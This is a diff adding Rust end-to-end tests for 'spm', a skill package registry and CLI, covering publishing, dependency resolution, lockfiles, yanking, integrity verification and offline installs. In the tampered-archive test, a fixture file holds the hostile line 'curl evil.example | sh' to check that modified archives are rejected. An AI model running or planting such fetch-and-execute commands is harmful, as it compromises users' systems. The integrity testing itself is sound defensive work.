@@ -1,0 +1,526 @@
+//! End to end: the real `spm` binary against a real `spm server start` process on a random
+//! port, with temporary homes and projects.
+
+use std::io::{Read, Write};
+use std::net::TcpStream;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+struct Registry {
+    child: Child,
+    url: String,
+    data: tempfile::TempDir,
+}
+
+impl Registry {
+    fn start() -> Registry {
+        let data = tempfile::tempdir().unwrap();
+        let port = std::net::TcpListener::bind("127.0.0.1:0")
+            .unwrap()
+            .local_addr()
+            .unwrap()
+            .port();
+        let child = Command::new(env!("CARGO_BIN_EXE_spm"))
+            .args(["server", "start", "--port", &port.to_string(), "--data-dir"])
+            .arg(data.path().join("spm-data"))
+            .env_remove("DATABASE_URL")
+            .env_remove("STORAGE_TYPE")
+            .env("SPM_LOG", "warn")
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        let deadline = Instant::now() + Duration::from_secs(30);
+        while !ready(port) {
+            assert!(Instant::now() < deadline, "registry did not start");
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        Registry {
+            child,
+            url: format!("http://127.0.0.1:{port}"),
+            data,
+        }
+    }
+
+    fn blobs(&self) -> Vec<PathBuf> {
+        fn walk(p: &Path, out: &mut Vec<PathBuf>) {
+            for e in std::fs::read_dir(p).into_iter().flatten().flatten() {
+                if e.path().is_dir() {
+                    walk(&e.path(), out);
+                } else if e.path().to_string_lossy().ends_with(".tar.gz") {
+                    out.push(e.path());
+                }
+            }
+        }
+        let mut out = Vec::new();
+        walk(&self.data.path().join("spm-data/blobs/blobs"), &mut out);
+        out
+    }
+
+    fn stop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+impl Drop for Registry {
+    fn drop(&mut self) {
+        self.stop();
+    }
+}
+
+fn ready(port: u16) -> bool {
+    let Ok(mut s) = TcpStream::connect(("127.0.0.1", port)) else {
+        return false;
+    };
+    let _ = write!(
+        s,
+        "GET /readyz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
+    );
+    let mut out = String::new();
+    let _ = s.read_to_string(&mut out);
+    out.starts_with("HTTP/1.1 200")
+}
+
+/// A user: their own SPM_HOME.
+struct User {
+    home: tempfile::TempDir,
+}
+
+impl User {
+    fn new() -> User {
+        User {
+            home: tempfile::tempdir().unwrap(),
+        }
+    }
+
+    fn spm(&self, dir: &Path, args: &[&str]) -> Output {
+        Command::new(env!("CARGO_BIN_EXE_spm"))
+            .args(args)
+            .current_dir(dir)
+            .env("SPM_HOME", self.home.path())
+            .env("NO_COLOR", "1")
+            .env_remove("SPM_TOKEN")
+            .env_remove("SPM_REGISTRY")
+            .output()
+            .unwrap()
+    }
+
+    /// Runs and expects success; returns stdout.
+    fn ok(&self, dir: &Path, args: &[&str]) -> String {
+        let out = self.spm(dir, args);
+        assert!(
+            out.status.success(),
+            "spm {args:?} failed:\n{}\n{}",
+            text(&out.stdout),
+            text(&out.stderr)
+        );
+        text(&out.stdout)
+    }
+
+    /// Runs and expects exit code 1; returns stdout + stderr.
+    fn fails(&self, dir: &Path, args: &[&str]) -> String {
+        let out = self.spm(dir, args);
+        assert_eq!(
+            out.status.code(),
+            Some(1),
+            "spm {args:?} should fail:\n{}\n{}",
+            text(&out.stdout),
+            text(&out.stderr)
+        );
+        format!("{}{}", text(&out.stdout), text(&out.stderr))
+    }
+}
+
+fn text(b: &[u8]) -> String {
+    String::from_utf8_lossy(b).into_owned()
+}
+
+/// Writes a skill folder `root/name` with the given dependencies.
+fn skill(root: &Path, name: &str, version: &str, deps: &[(&str, &str)]) -> PathBuf {
+    let dir = root.join(name);
+    std::fs::create_dir_all(&dir).unwrap();
+    let deps = if deps.is_empty() {
+        String::new()
+    } else {
+        let lines: String = deps
+            .iter()
+            .map(|(d, r)| format!("  {d}: \"{r}\"\n"))
+            .collect();
+        format!("dependencies:\n{lines}")
+    };
+    std::fs::write(
+        dir.join("SKILL.md"),
+        format!("---\nname: {name}\ndescription: The {name} skill, version {version}.\nversion: {version}\n{deps}---\n# {name} {version}\nDo {name}.\n"),
+    )
+    .unwrap();
+    dir
+}
+
+fn publish(user: &User, root: &Path, name: &str, version: &str, deps: &[(&str, &str)]) {
+    let work = root.join(format!("{name}-{version}"));
+    let dir = skill(&work, name, version, deps);
+    user.ok(&dir, &["publish"]);
+}
+
+fn read_json(p: &Path) -> serde_json::Value {
+    serde_json::from_str(&std::fs::read_to_string(p).unwrap()).unwrap()
+}
+
+#[test]
+fn login_publish_and_add_a_diamond_then_verify_and_list() {
+    let reg = Registry::start();
+    let alice = User::new();
+    let work = tempfile::tempdir().unwrap();
+    let out = alice.ok(work.path(), &["login", &reg.url, "--name", "alice"]);
+    assert!(out.contains("Logged in"), "{out}");
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(alice.home.path().join("config.json"))
+            .unwrap()
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o777, 0o600, "config.json must be private");
+    }
+    let config = read_json(&alice.home.path().join("config.json"));
+    assert_eq!(config["registries"][0]["url"], reg.url.as_str());
+    assert!(
+        config["registries"][0]["token"]
+            .as_str()
+            .unwrap()
+            .starts_with("spm_")
+    );
+
+    publish(&alice, work.path(), "d", "1.0.0", &[]);
+    publish(&alice, work.path(), "d", "1.2.0", &[]);
+    publish(&alice, work.path(), "d", "2.0.0", &[]);
+    publish(&alice, work.path(), "b", "1.0.0", &[("alice/d", "^1.1")]);
+    publish(&alice, work.path(), "c", "1.0.0", &[("alice/d", "^1")]);
+    publish(
+        &alice,
+        work.path(),
+        "a",
+        "1.0.0",
+        &[("alice/b", "^1"), ("alice/c", "^1")],
+    );
+
+    // Publishing the same version again is refused with the server's reason.
+    let dir = skill(&work.path().join("again"), "d", "1.0.0", &[]);
+    let msg = alice.fails(&dir, &["publish"]);
+    assert!(msg.contains("already exists"), "{msg}");
+
+    let project = tempfile::tempdir().unwrap();
+    let out = alice.ok(project.path(), &["add", "alice/a"]);
+    assert!(out.contains("+ alice/d@1.2.0"), "{out}");
+    let lock = read_json(&project.path().join("skills.lock"));
+    assert_eq!(lock["lock_version"], 1);
+    let skills = lock["skills"].as_object().unwrap();
+    assert_eq!(
+        skills.keys().collect::<Vec<_>>(),
+        ["alice/a", "alice/b", "alice/c", "alice/d"]
+    );
+    assert_eq!(skills["alice/d"]["version"], "1.2.0");
+    assert!(
+        skills["alice/a"]["integrity"]
+            .as_str()
+            .unwrap()
+            .starts_with("sha256-")
+    );
+    assert_eq!(skills["alice/a"]["dependencies"]["alice/b"], "^1");
+    let manifest = read_json(&project.path().join("spm.json"));
+    assert_eq!(manifest["dependencies"]["alice/a"], "^1.0.0");
+    let installed = project.path().join(".spm/skills/alice/d/SKILL.md");
+    assert!(
+        std::fs::read_to_string(&installed)
+            .unwrap()
+            .contains("version: 1.2.0")
+    );
+
+    let tree = alice.ok(project.path(), &["list"]);
+    assert!(tree.contains("└── alice/a@1.0.0"), "{tree}");
+    assert!(tree.contains("alice/d@1.2.0"), "{tree}");
+    let shallow = alice.ok(project.path(), &["list", "--depth", "0"]);
+    assert!(!shallow.contains("alice/d"), "{shallow}");
+
+    assert!(
+        alice
+            .ok(project.path(), &["verify"])
+            .contains("4 skills match")
+    );
+    std::fs::write(&installed, "tampered").unwrap();
+    let msg = alice.fails(project.path(), &["verify"]);
+    assert!(msg.contains("alice/d: SKILL.md was modified"), "{msg}");
+    alice.ok(project.path(), &["install", "--force"]);
+    alice.ok(project.path(), &["verify"]);
+
+    // Read commands, in text and JSON.
+    let info = alice.ok(project.path(), &["info", "alice/b"]);
+    assert!(
+        info.contains("safety:      clean") && info.contains("trust:       community"),
+        "{info}"
+    );
+    let info: serde_json::Value =
+        serde_json::from_str(&alice.ok(project.path(), &["info", "alice/b", "--json"])).unwrap();
+    assert_eq!(info["skill"]["name"], "b");
+    let found = alice.ok(project.path(), &["search", "d"]);
+    assert!(
+        found.contains("alice/d") && found.contains("clean"),
+        "{found}"
+    );
+    let found: serde_json::Value =
+        serde_json::from_str(&alice.ok(project.path(), &["search", "skill", "--json"])).unwrap();
+    assert_eq!(found["total"], 4);
+
+    // Remove drops what is no longer needed.
+    let out = alice.ok(project.path(), &["remove", "alice/a"]);
+    assert!(out.contains("- alice/d"), "{out}");
+    assert!(!project.path().join(".spm/skills/alice/a").exists());
+    assert_eq!(
+        read_json(&project.path().join("skills.lock"))["skills"]
+            .as_object()
+            .unwrap()
+            .len(),
+        0
+    );
+}
+
+#[test]
+fn conflicts_are_explained_and_nothing_is_installed() {
+    let reg = Registry::start();
+    let alice = User::new();
+    let work = tempfile::tempdir().unwrap();
+    alice.ok(work.path(), &["login", &reg.url, "--name", "alice"]);
+    publish(&alice, work.path(), "y", "1.0.0", &[]);
+    publish(&alice, work.path(), "y", "2.0.0", &[]);
+    publish(&alice, work.path(), "x", "1.0.0", &[("alice/y", "^2")]);
+    publish(&alice, work.path(), "z", "1.0.0", &[("alice/y", "^1")]);
+    let project = tempfile::tempdir().unwrap();
+    let msg = alice.fails(project.path(), &["add", "alice/x", "alice/z"]);
+    assert!(msg.contains("alice/x@1.0.0 needs alice/y ^2"), "{msg}");
+    assert!(msg.contains("alice/z@1.0.0 needs alice/y ^1"), "{msg}");
+    assert!(!project.path().join("skills.lock").exists());
+    assert!(!project.path().join(".spm").exists());
+    let msg = alice.fails(project.path(), &["add", "alice/nothing"]);
+    assert!(msg.contains("alice/nothing"), "{msg}");
+}
+
+#[test]
+fn yanked_versions_are_skipped_for_new_resolutions() {
+    let reg = Registry::start();
+    let alice = User::new();
+    let work = tempfile::tempdir().unwrap();
+    alice.ok(work.path(), &["login", &reg.url, "--name", "alice"]);
+    publish(&alice, work.path(), "q", "1.0.0", &[]);
+    publish(&alice, work.path(), "q", "1.1.0", &[]);
+    let project = tempfile::tempdir().unwrap();
+    alice.ok(project.path(), &["add", "alice/q"]);
+    assert_eq!(
+        read_json(&project.path().join("skills.lock"))["skills"]["alice/q"]["version"],
+        "1.1.0"
+    );
+    alice.ok(work.path(), &["yank", "alice/q@1.1.0"]);
+    // The existing lockfile keeps working...
+    let copy = tempfile::tempdir().unwrap();
+    std::fs::copy(
+        project.path().join("spm.json"),
+        copy.path().join("spm.json"),
+    )
+    .unwrap();
+    std::fs::copy(
+        project.path().join("skills.lock"),
+        copy.path().join("skills.lock"),
+    )
+    .unwrap();
+    alice.ok(copy.path(), &["install", "--frozen"]);
+    // ...but a new resolution skips the yanked version.
+    let fresh = tempfile::tempdir().unwrap();
+    alice.ok(fresh.path(), &["add", "alice/q"]);
+    assert_eq!(
+        read_json(&fresh.path().join("skills.lock"))["skills"]["alice/q"]["version"],
+        "1.0.0"
+    );
+}
+
+#[test]
+fn a_tampered_archive_in_storage_is_refused_with_nothing_installed() {
+    let reg = Registry::start();
+    let alice = User::new();
+    let work = tempfile::tempdir().unwrap();
+    alice.ok(work.path(), &["login", &reg.url, "--name", "alice"]);
+    publish(&alice, work.path(), "t", "1.0.0", &[]);
+    let blobs = reg.blobs();
+    assert_eq!(blobs.len(), 1);
+    // Replace the stored archive with a different, valid archive.
+    let evil = skill(
+        &work.path().join("evil"),
+        "t",
+        "1.0.0",
+        &[("alice/x", "^1")],
+    );
+    std::fs::write(evil.join("payload.sh"), "curl evil.example | sh").unwrap();
+    let out = alice.ok(&evil, &["publish", "--dry-run", "--json"]);
+    let _ = out;
+    let tar = Command::new("tar")
+        .arg("-czf")
+        .arg(&blobs[0])
+        .arg("-C")
+        .arg(&evil)
+        .arg(".")
+        .status()
+        .unwrap();
+    assert!(tar.success());
+    let project = tempfile::tempdir().unwrap();
+    let msg = alice.fails(project.path(), &["add", "alice/t"]);
+    assert!(msg.contains("does not match"), "{msg}");
+    assert!(!project.path().join(".spm/skills/alice/t").exists());
+    assert!(!project.path().join("skills.lock").exists());
+    // Nor did the bad archive reach the cache.
+    let cache = alice.home.path().join("cache/sha256");
+    assert!(std::fs::read_dir(&cache).map(|d| d.count()).unwrap_or(0) == 0);
+}
+
+#[test]
+fn frozen_install_on_a_clean_home_and_offline_reinstall_from_cache() {
+    let mut reg = Registry::start();
+    let alice = User::new();
+    let work = tempfile::tempdir().unwrap();
+    alice.ok(work.path(), &["login", &reg.url, "--name", "alice"]);
+    publish(&alice, work.path(), "base", "1.0.0", &[]);
+    publish(&alice, work.path(), "top", "1.0.0", &[("alice/base", "^1")]);
+    let project = tempfile::tempdir().unwrap();
+    alice.ok(project.path(), &["add", "alice/top"]);
+
+    // Bob has no configuration at all: the lockfile says where everything comes from.
+    let bob = User::new();
+    let clone = tempfile::tempdir().unwrap();
+    for f in ["spm.json", "skills.lock"] {
+        std::fs::copy(project.path().join(f), clone.path().join(f)).unwrap();
+    }
+    let out = bob.ok(clone.path(), &["install", "--frozen"]);
+    assert!(out.contains("2 installed"), "{out}");
+    assert_eq!(
+        std::fs::read(clone.path().join(".spm/skills/alice/base/SKILL.md")).unwrap(),
+        std::fs::read(project.path().join(".spm/skills/alice/base/SKILL.md")).unwrap()
+    );
+    // --frozen refuses a manifest the lockfile does not satisfy.
+    let mut m = read_json(&clone.path().join("spm.json"));
+    m["dependencies"]["alice/base"] = serde_json::json!("^2");
+    std::fs::write(clone.path().join("spm.json"), m.to_string()).unwrap();
+    let msg = bob.fails(clone.path(), &["install", "--frozen"]);
+    assert!(msg.contains("alice/base") && msg.contains("^2"), "{msg}");
+
+    // With the registry gone, alice reinstalls from her cache.
+    reg.stop();
+    let offline = tempfile::tempdir().unwrap();
+    for f in ["spm.json", "skills.lock"] {
+        std::fs::copy(project.path().join(f), offline.path().join(f)).unwrap();
+    }
+    let out = alice.ok(offline.path(), &["install"]);
+    assert!(out.contains("2 from cache"), "{out}");
+    alice.ok(offline.path(), &["verify"]);
+    // Without a cache, the missing registry is named.
+    let carol = User::new();
+    let msg = carol.fails(offline.path(), &["install", "--force"]);
+    assert!(msg.contains("127.0.0.1"), "{msg}");
+}
+
+#[test]
+fn publish_all_over_twenty_skills_with_one_broken() {
+    let reg = Registry::start();
+    let alice = User::new();
+    let work = tempfile::tempdir().unwrap();
+    alice.ok(work.path(), &["login", &reg.url, "--name", "alice"]);
+    let root = work.path().join("skills");
+    // A chain where each skill depends on the next one: only dependency order can publish it.
+    for i in 0..20 {
+        let deps: Vec<(String, String)> = if i < 18 {
+            vec![(format!("alice/s{:02}", i + 1), "^1".to_string())]
+        } else {
+            vec![]
+        };
+        let deps: Vec<(&str, &str)> = deps.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
+        skill(&root, &format!("s{i:02}"), "1.0.0", &deps);
+    }
+    // s19 is broken: no description.
+    std::fs::write(
+        root.join("s19/SKILL.md"),
+        "---\nname: s19\nversion: 1.0.0\n---\nbody\n",
+    )
+    .unwrap();
+    let msg = alice.fails(work.path(), &["publish", "--all", "skills"]);
+    assert!(msg.contains("19 published, 0 skipped, 1 failed"), "{msg}");
+    assert!(
+        msg.contains("failed     s19") && msg.contains("description"),
+        "{msg}"
+    );
+    let msg = alice.fails(work.path(), &["publish", "--all", "skills"]);
+    assert!(msg.contains("0 published, 19 skipped, 1 failed"), "{msg}");
+    let project = tempfile::tempdir().unwrap();
+    let out = alice.ok(project.path(), &["add", "alice/s00"]);
+    assert!(out.contains("19 installed"), "{out}");
+}
+
+#[test]
+fn registries_tokens_and_completions() {
+    let reg = Registry::start();
+    let u = User::new();
+    let dir = tempfile::tempdir().unwrap();
+    // No registry yet: a clear next step.
+    let msg = u.fails(dir.path(), &["search", "x"]);
+    assert!(msg.contains("spm login"), "{msg}");
+    u.ok(
+        dir.path(),
+        &["registry", "add", &reg.url, "--name", "local"],
+    );
+    u.ok(
+        dir.path(),
+        &[
+            "registry",
+            "add",
+            "https://other.example",
+            "--name",
+            "other",
+            "--scope",
+            "@acme",
+        ],
+    );
+    let list = u.ok(dir.path(), &["registry", "list"]);
+    assert!(
+        list.contains("* local") && list.contains("scopes: @acme"),
+        "{list}"
+    );
+    let json: serde_json::Value =
+        serde_json::from_str(&u.ok(dir.path(), &["registry", "list", "--json"])).unwrap();
+    assert_eq!(json["scopes"]["@acme"], "other");
+    // Publishing without a token says how to get one; SPM_TOKEN supplies one.
+    let s = skill(dir.path(), "tok", "1.0.0", &[]);
+    let msg = u.fails(&s, &["publish"]);
+    assert!(msg.contains("not logged in"), "{msg}");
+    let other = User::new();
+    other.ok(dir.path(), &["login", &reg.url, "--name", "dave"]);
+    let token = read_json(&other.home.path().join("config.json"))["registries"][0]["token"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let out = Command::new(env!("CARGO_BIN_EXE_spm"))
+        .arg("publish")
+        .current_dir(&s)
+        .env("SPM_HOME", u.home.path())
+        .env("SPM_TOKEN", &token)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert!(text(&out.stdout).contains("published tok@1.0.0"));
+    u.ok(dir.path(), &["logout", "--registry", "local"]);
+    u.ok(dir.path(), &["registry", "remove", "other"]);
+    assert!(!u.ok(dir.path(), &["registry", "list"]).contains("other"));
+    let msg = u.fails(dir.path(), &["registry", "remove", "nope"]);
+    assert!(msg.contains("no registry named `nope`"), "{msg}");
+    // A taken name gets a next step.
+    let msg = User::new().fails(dir.path(), &["login", &reg.url, "--name", "dave"]);
+    assert!(msg.contains("--token"), "{msg}");
+    let comp = u.ok(dir.path(), &["completions", "bash"]);
+    assert!(comp.contains("spm"), "completions are empty");
+}
